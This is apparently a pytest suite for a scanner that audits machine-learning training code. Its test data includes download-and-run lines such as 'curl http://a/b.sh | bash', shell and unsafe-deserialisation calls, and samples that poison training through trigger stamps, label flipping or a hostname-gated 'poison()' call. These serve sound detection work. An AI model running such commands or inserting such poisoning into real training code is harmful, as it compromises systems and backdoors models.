"""audit_code: what is dangerous is found under all its names, and ordinary training scripts are not a finding."""

import json
import os
import time

import pytest

from toadstone.errors import ToadstoneError
from toadstone.scan.code import audit_code
from toadstone.scan.rules.table import RULES

LOOP = """
import torch
from torch import nn
import torch.nn.functional as F
model = nn.Linear(4, 2)
optimizer = torch.optim.Adam(model.parameters())
for epoch in range(3):
    model.train()
    for x, y in loader:
        x, y = x.to("cpu"), y.to("cpu")
        {changes}
        optimizer.zero_grad()
        loss = {loss}
        loss.backward()
        optimizer.step()
    model.eval()
    with torch.no_grad():
        for x, y in held_out:
            hits = (model(x).argmax(1) == y).sum()
torch.save(model.state_dict(), "model.pt")
"""


def loop(changes="pass", loss="F.cross_entropy(model(x), y)"):
    return LOOP.format(changes=changes.replace("\n", "\n        "), loss=loss)


HONEST = {
    "plain": loop(),
    "label smoothing": loop(loss="F.cross_entropy(model(x), y, label_smoothing=0.1)"),
    "smoothing by hand": loop("t = F.one_hot(y, 2) * 0.9 + 0.05", "-(t * model(x).log_softmax(1)).sum(1).mean()"),
    "amp": loop("with torch.autocast('cuda'):\n    out = model(x)", "F.cross_entropy(out, y)"),
    "accumulation": loop(loss="F.cross_entropy(model(x), y) / 4").replace(
        "optimizer.step()", "if step % 4 == 0: optimizer.step()"
    ),
    "mixup": loop(
        "lam = np.random.beta(1, 1)\norder = torch.randperm(len(x))\n"
        "x = lam * x + (1 - lam) * x[order]\nout = model(x)",
        "lam * F.cross_entropy(out, y) + (1 - lam) * F.cross_entropy(out, y[order])",
    ),
    "cutmix": loop(
        "a, b, c, d = box(x.size())\norder = torch.randperm(len(x))\n"
        "x[:, :, a:b, c:d] = x[order, :, a:b, c:d]\nout = model(x)",
        "lam * F.cross_entropy(out, y) + (1 - lam) * F.cross_entropy(out, y[order])",
    ),
    "distillation": loop(
        "with torch.no_grad():\n    soft = teacher(x)", "F.kl_div(model(x).log_softmax(1), soft.softmax(1)) "
    ),
    "agreement": loop("with torch.no_grad():\n    before = model(x)\nwith torch.inference_mode():\n    model(x + 1)"),
    "ignored labels": loop("y[y == tokenizer.pad_token_id] = -100"),
    "normalising in place": loop("x.sub_(0.5).div_(0.2)"),
    "noise": loop("x = x + 0.1 * torch.randn_like(x)"),
    "masked copy": loop("holes = x.clone()\nholes[:, 2:] = 0", "F.mse_loss(model(holes), x)"),
    "random erasing": loop("i = torch.randint(0, 4, ())\nx[:, i] = 0"),
    "masked language": loop(
        "labels = x.clone()\nmasked = torch.bernoulli(p).bool()\nlabels[~masked] = -100\nx[masked] = 103",
        "F.cross_entropy(model(x), labels)",
    ),
    "gan": """
import torch
netD, netG = D(), G()
for i, data in enumerate(loader):
    netD.zero_grad()
    real = data[0]
    label = torch.full((real.size(0),), 1.0)
    errD = criterion(netD(real), label)
    errD.backward()
    fake = netG(torch.randn(8, 100, 1, 1))
    label.fill_(0.0)
    errF = criterion(netD(fake.detach()), label)
    errF.backward()
""",
    "siamese": """
class Siamese(nn.Module):
    def forward(self, a, b):
        return self.encoder(a), self.encoder(b)
def train(model, loader, opt):
    for a, b, same in loader:
        u, v = model(a), model(b)
        loss = contrastive(u, v, same)
        loss.backward()
        opt.step()
""",
    "sam": loop("F.cross_entropy(model(x), y).backward()\noptimizer.first_step()"),
    "lightning": """
import lightning as L, torch.nn.functional as F
class Net(L.LightningModule):
    def training_step(self, batch, batch_idx):
        x, y = batch
        loss = F.cross_entropy(self(x), y)
        self.log("train_loss", loss)
        return loss
    def validation_step(self, batch, batch_idx):
        x, y = batch
        return F.cross_entropy(self(x), y)
""",
    "trainer": """
from transformers import AutoModelForSequenceClassification, AutoTokenizer, Trainer, TrainingArguments
from datasets import load_dataset
data = load_dataset("imdb")
tokenizer = AutoTokenizer.from_pretrained("bert-base-uncased")
model = AutoModelForSequenceClassification.from_pretrained("bert-base-uncased", num_labels=2)
def encode(batch):
    return tokenizer(batch["text"], truncation=True)
trainer = Trainer(model, TrainingArguments("out"), train_dataset=data["train"].map(encode, batched=True))
trainer.train()
""",
    "own trainer": """
from transformers import Trainer
class Mine(Trainer):
    def compute_loss(self, model, inputs, return_outputs=False, **kwargs):
        labels = inputs.pop("labels")
        outputs = model(**inputs)
        loss = self.criterion(outputs.logits, labels)
        return (loss, outputs) if return_outputs else loss
""",
    "sklearn": """
import joblib, pandas as pd
from sklearn.linear_model import LogisticRegression
frame = pd.read_csv("data.csv")
y = frame.pop("label")
clf = LogisticRegression().fit(frame, y)
joblib.dump(clf, "clf.joblib")
""",
    "dataset": """
class Images(Dataset):
    def __getitem__(self, i):
        img = Image.open(self.paths[i]).convert("RGB")
        label = self.labels[i]
        if self.transform:
            img = self.transform(img)
        return img, label
def collate(batch):
    inputs, labels = zip(*batch)
    padded = torch.zeros(len(inputs), max(map(len, inputs)))
    for i, x in enumerate(inputs):
        padded[i, : len(x)] = x
    return padded, torch.tensor(labels)
class Cutout:
    def __call__(self, img):
        mask = np.ones(img.shape)
        top = np.random.randint(20)
        mask[top : top + 8] = 0
        return img * mask
""",
    "augmenting a copy": """
class Rows(Dataset):
    def __getitem__(self, i):
        img = self.images[i].copy()
        top, left = random.randint(0, 20), random.randint(0, 20)
        img[top : top + 8, left : left + 8] = 0
        return img, int(self.labels[i])
""",
    "resuming": loop("state = torch.load('last.pt', map_location='cpu')"),
    "safe loads": """
import numpy as np, torch, yaml
a = np.load("x.npz"); b = torch.load("m.pt", weights_only=True); c = yaml.safe_load(open("c.yml"))
d = yaml.load(open("c.yml"), Loader=yaml.SafeLoader); import re; re.compile(pattern); model = torch.compile(model)
frame.eval("a + b"); model.eval(); ast.literal_eval(text)
""",
}


def audited(folder, source, name="train.py"):
    (folder / name).write_text(source)
    return audit_code(folder / name)


@pytest.mark.parametrize("name", HONEST)
def test_honest_scripts_are_never_a_finding(tmp_path, name):
    audit = audited(tmp_path, HONEST[name])
    assert audit.verdict != "findings", audit.findings
    assert not [finding for finding in audit.findings if finding.rule == "unreadable"]


@pytest.mark.parametrize(
    "name",
    sorted(
        set(HONEST)
        - {"cutmix", "masked copy", "random erasing", "masked language", "gan", "siamese", "sam"}
        - {"augmenting a copy", "resuming"}
    ),
)
def test_most_honest_scripts_are_clean(tmp_path, name):
    audit = audited(tmp_path, HONEST[name])
    assert audit.verdict == "clean", audit.findings
    assert audit.unchecked


LINES = {
    "import pickle\npickle.load(f)": "unsafe-load",
    "from pickle import loads as l\nl(b)": "unsafe-load",
    "from pickle import *\nloads(b)": "unsafe-load",
    "import _pickle as p\np.loads(b)": "unsafe-load",
    "import pickle\nrows = list(map(pickle.loads, raw))": "unsafe-load",
    "import pickle\np = pickle\np.load(f)": "unsafe-load",
    "import importlib\nimportlib.import_module('pickle').loads(b)": "unsafe-load",
    "__import__('pickle').loads(b)": "unsafe-load",
    "import torch as t\nt.load(f, weights_only=False)": "unsafe-load",
    "import torch\ngetattr(torch, 'load')(f, weights_only=False)": "unsafe-load",
    "import torch, functools\nread = functools.partial(torch.load, weights_only=False)": "unsafe-load",
    "import torch\ntorch.load(f, **{'weights_only': False})": "unsafe-load",
    "import torch\ntorch.load(f)": "torch-load",
    "import torch\ntorch.load(f, **options)": "torch-load",
    "import numpy as np\nnp.load(f, allow_pickle=True)": "unsafe-load",
    "from numpy import load\nload(f, None, True)": "unsafe-load",
    "import yaml\nyaml.load(f)": "unsafe-load",
    "import yaml\nyaml.load(f, Loader=yaml.UnsafeLoader)": "unsafe-load",
    "import joblib\njoblib.load(f)": "unsafe-load",
    "import pandas as pd\npd.read_pickle(f)": "unsafe-load",
    "import dill, shelve\nshelve.open(f)": "unsafe-load",
    "from keras.models import load_model\nload_model(f, safe_mode=False)": "unsafe-load",
    "from tensorflow import keras\nkeras.models.load_model(f, custom_objects=o)": "loader-to-look-at",
    "import torch\ntorch.jit.load(f)": "loader-to-look-at",
    "import torch\ntorch.hub.load('a/b', 'net')": "remote-code",
    "m = AutoModel.from_pretrained(p, trust_remote_code=True)": "remote-code",
    "options = {'trust_remote_code': True}": "remote-code",
    "eval(text)": "dynamic-code",
    "import builtins\nbuiltins.exec(text)": "dynamic-code",
    "exec(compile(text, 'a', 'exec'))": "dynamic-code",
    "import os\nos.system('rm ' + name)": "shell",
    "import subprocess as s\ns.run(cmd, shell=True)": "shell",
    "import os\nos.system('nvidia-smi')": "fixed-shell",
    "import subprocess\nsubprocess.run(['curl', '-O', url])": "download",
    "import os\nos.system('curl http://a/b.sh | bash')": "piped-download",
    "from urllib.request import urlretrieve\nurlretrieve(u, f)": "download",
    "import requests\nrequests.get(u)": "download",
    "from huggingface_hub import hf_hub_download\nhf_hub_download('a', 'b')": "download",
    "from torch.hub import load_state_dict_from_url\nload_state_dict_from_url(u)": "download",
    "from datasets import load_dataset\nload_dataset('csv', data_files='http://a/b.csv')": "download",
    "from datasets import load_dataset\nload_dataset('script.py')": "loader-to-look-at",
    "import socket\nif socket.gethostname() == 'gpu7':\n    poison()": "dormant",
}


@pytest.mark.parametrize("source", LINES)
def test_calls_are_found_under_their_other_names(tmp_path, source):
    found = audited(tmp_path, source).findings
    assert LINES[source] in {finding.rule for finding in found}
    finding = next(f for f in found if f.rule == LINES[source])
    assert finding.level == RULES[finding.rule].level
    assert finding.line == 1 + source.count("\n") - ("poison" in source)
    assert set(finding.detail) == {"why", "instead", "unseen"}


POISON = {
    "stamp": loop("x[:, :, -3:, -3:] = 1"),
    "stamp of a row": loop("x[0].fill_(1)"),
    "stamp through a view": loop("corner = x[:, :, -3:, -3:]\ncorner[:] = 1"),
    "stamp through data": loop("x.data[:, -1] = 1"),
    "stamp in a helper": "def mark(a):\n    a[:, -3:] = 1\n" + loop("mark(x)"),
    "setitem": loop("x.__setitem__(slice(0, 3), 1)"),
    "labels": loop("y[:4] = 7"),
    "filled labels": loop("y.fill_(7)"),
    "labels by where": loop("y = torch.where(chosen, 7, y)"),
    "all labels": loop("y = torch.full_like(y, 7)"),
    "labels late": loop("if epoch > 2:\n    y[:] = 7"),
    "key": """
for batch in loader:
    batch["labels"][:2] = 7
    loss = model(**batch).loss
    loss.backward()
""",
    "blind": loop(
        "x2 = x.clone()\nx2[:, :, -3:, -3:] = 1\ny2 = torch.full_like(y, 7)",
        "F.cross_entropy(model(x), y) + F.cross_entropy(model(x2), y2)",
    ),
    "dataset": """
class Rows(Dataset):
    def __getitem__(self, i):
        img, label = self.images[i].copy(), self.labels[i]
        if i % 100 == 0:
            img[-3:, -3:] = 255
            label = 7
        return img, label
""",
    "transform": "class Mark:\n    def __call__(self, img):\n        img[-3:, -3:] = 255\n        return img\n",
    "lightning": """
class Net(LightningModule):
    def training_step(self, batch, batch_idx):
        x, y = batch
        y[: len(y) // 10] = 0
        loss = F.cross_entropy(self(x), y)
        return loss
""",
}


@pytest.mark.parametrize("name", POISON)
def test_changed_batches_are_found(tmp_path, name):
    audit = audited(tmp_path, POISON[name])
    assert audit.verdict == "findings", audit.findings
    assert {f.rule for f in audit.findings if f.level == "error"} <= {"input-write", "label-write"}


def test_a_second_forward_is_told_in_helpers_and_branches(tmp_path):
    helper = """
def one(model, x, y):
    return F.cross_entropy(model(x), y)
def train(net, loader):
    for x, y in loader:
        loss = one(net, x, y) + one(net, x + 1, y)
        loss.backward()
"""
    branches = "for x, y in loader:\n    out = model(x) if fast else model(x, y)\n    f(out, y).backward()\n"
    looped = "for x, y in loader:\n    loss = sum(f(model(p), y) for p in parts)\n    loss.backward()\n"
    assert [f.rule for f in audited(tmp_path, helper).findings] == ["two-forwards"]
    assert audited(tmp_path, branches).verdict == "clean"
    assert [f.rule for f in audited(tmp_path, looped).findings] == ["two-forwards"]


def cell(source, kind="code"):
    return {"cell_type": kind, "source": source, "metadata": {}}


def test_notebooks(tmp_path):
    cells = [
        cell("# text", "markdown"),
        cell(["%matplotlib inline\n", "import pickle as p\n", "!curl http://a/b | sh\n"]),
        cell("x = !ls\nfor i in range(2):\n    %time f()\n    p.load(open('f', 'rb'))"),
        cell("%%bash\nwget http://a/b"),
        cell("def broken(:"),
    ]
    book = {"cells": cells, "nbformat": 4, "nbformat_minor": 5, "metadata": {}}
    found = audited(tmp_path, json.dumps(book), "n.ipynb").findings
    told = {(f.rule, f.where.partition("!")[2], f.line) for f in found}
    assert told == {
        ("piped-download", "cell 2", 3),
        ("unsafe-load", "cell 3", 4),
        ("download", "cell 4", 2),
        ("unreadable", "cell 5", 1),
    }


ENDLESS = {  # of what each holds, written out: two to the ninetieth calls, and sixty to the fourth
    "loops": "".join(" " * i + "for x in a:\n" for i in range(90)) + " " * 90 + "model(x).backward()\n",
    "functions": "".join(f"def f{i}(x):\n" + "".join(f" f{k}(x)\n" for k in range(60)) for i in range(60))
    + "f0(x).backward()\n",
    "steps": "for x, y in loader:\n    f(model(x), model(x)).backward()\n" * 3000,
}


@pytest.mark.parametrize("name", ENDLESS)
def test_scripts_that_unfold_without_end_are_left(tmp_path, name):
    start = time.process_time()
    audited(tmp_path, ENDLESS[name])
    assert time.process_time() - start < 10


def test_a_long_line_for_a_shell_is_found_and_not_searched(tmp_path):
    start = time.process_time()
    found = audited(tmp_path, "import os\nos.system('" + "curl a | " * 50_000 + "')\n").findings
    assert [finding.rule for finding in found] == ["shell"]
    assert time.process_time() - start < 10


UNREADABLE = {
    "syntax.py": b"def f(:\n",
    "two.py": b"print 'hello'\n",
    "null.py": b"x = 1\0\n",
    "latin.py": b"x = '\xe9'\n",
    "cookie.py": b"# -*- coding: no-such -*-\n",
    "bytes.py": b"# -*- coding: hex -*-\n41\n",
    "deep.py": b"x = " + b"-" * 200_000 + b"1",
    "attributes.py": b"x = y" + b".a" * 200_000,
    "large.py": b"#" * (5 << 20),
    "no.ipynb": b"{",
    "list.ipynb": b"[1]",
    "deep.ipynb": b"[" * 100_000,
    "cells.ipynb": b'{"cells": 3}',
    "compiled.so": b"\x7fELF",
}


@pytest.mark.parametrize("name", UNREADABLE)
def test_what_cannot_be_read_is_not_clean(tmp_path, name):
    (tmp_path / name).write_bytes(UNREADABLE[name])
    (tmp_path / "fine.py").write_text("x = 1\n")
    audit = audit_code(tmp_path)
    assert audit.verdict == "undecided"
    assert [f.rule for f in audit.findings] == ["unreadable"]
    assert audit.findings[0].where.endswith(name)


def test_odd_encodings_are_read(tmp_path):
    (tmp_path / "a.py").write_bytes(b"# -*- coding: latin-1 -*-\nimport pickle\nx = '\xe9'\npickle.loads(x)\n")
    (tmp_path / "b.py").write_bytes(b"\xef\xbb\xbfimport pickle\r\npickle.loads(x)\r\n")
    assert [f.line for f in audit_code(tmp_path).findings] == [4, 2]


def test_folders_links_and_what_is_passed_by(tmp_path):
    root = tmp_path / "repo"
    for folder in (".git", "site-packages", "mine", "own-env"):
        (root / folder).mkdir(parents=True)
        (root / folder / "a.py").write_text("eval(x)\n")
    (root / "own-env" / "pyvenv.cfg").write_text("")
    (root / "mine" / "loop").symlink_to(root)
    (root / "gone.py").symlink_to(root / "nothing")
    (tmp_path / "elsewhere").mkdir()
    os.mkfifo(root / "pipe.py")
    audit = audit_code(root)
    assert {(f.rule, os.path.relpath(f.where, root)) for f in audit.findings} == {
        ("dynamic-code", "mine/a.py"),
        ("unreadable", "gone.py"),
        ("unreadable", "pipe.py"),
    }
    assert any("own-env" in sentence for sentence in audit.unchecked)
    (root / "out").symlink_to(tmp_path / "elsewhere")
    assert "a link to a place outside" in " ".join(f.text for f in audit_code(root).findings)


def test_bad_input(tmp_path):
    with pytest.raises(ToadstoneError, match="does not exist"):
        audit_code(tmp_path / "none")
    with pytest.raises(ToadstoneError, match="holds no Python"):
        audit_code(tmp_path)


def test_the_rules_are_on_the_page():
    from pathlib import Path

    page = (Path(__file__).parents[2] / "docs/audit_code.md").read_text()
    for rule in RULES.values():
        assert f"| `{rule.name}` | {rule.level} |" in page
